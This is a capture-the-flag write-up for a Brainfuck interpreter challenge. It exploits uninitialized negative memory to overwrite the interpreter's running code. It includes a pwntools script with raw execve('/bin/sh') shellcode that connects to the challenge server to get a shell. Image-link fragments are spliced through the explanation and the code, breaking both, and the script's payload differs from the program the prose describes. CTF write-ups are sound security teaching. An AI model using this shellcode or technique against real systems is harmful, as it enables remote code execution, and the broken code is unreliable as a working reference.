Original description:

We’re taking a whole new way of looking at brainf*ck. Go and check it out! nc challenges.tamuctf.com 31337


Brainfuck basically has 8 commands (equivalent C code) - table borrowed from Wikipedia Instruction|equivalent C –|–

< –ptr;
+ ++*ptr;
- –*ptr;. putchar(*ptr);
, *ptr=getchar();
[ while (*ptr) {
] }

And per definition, positive memory is initialized to 0.

But negative memory isn’t, so we enter 1000 “<.” to confirm that negative memory really is uninitialized.

As we don’t want to overwrite the code we are running, we insert buffer-code “<>” which shifts the pointer left and right.

After this print, our cursor is at -1000, so we insert 1000* “,>” (read and move to next memory) to directly overwrite the code that will run after all our input.

So our final program is: [print current memory, moveleft]*1000 + [shellcode pre-padded with 0x90 NOP to be aligned] + [any NOPcode that can be overwritten of length 1000]

Solution Code

from pwn import *
shellcode =b'\x90'*0x20+b'\x31\xc0\x48\xbb\xd1\x9d\x96\x91\xd0\x8c\x97\xff\x48\xf7\xdb\x53\x54\x5f\x99\x52\x57\x54\x5e\xb0\x3b\x0f\x05'
N = 1000

r = remote("challenges.tamuctf.com", 31337)
r.recvuntil(b"bf$ ")r.sendline(b"<.[<.]"*N +b',>'*len(shellcode) + b"<>"*N)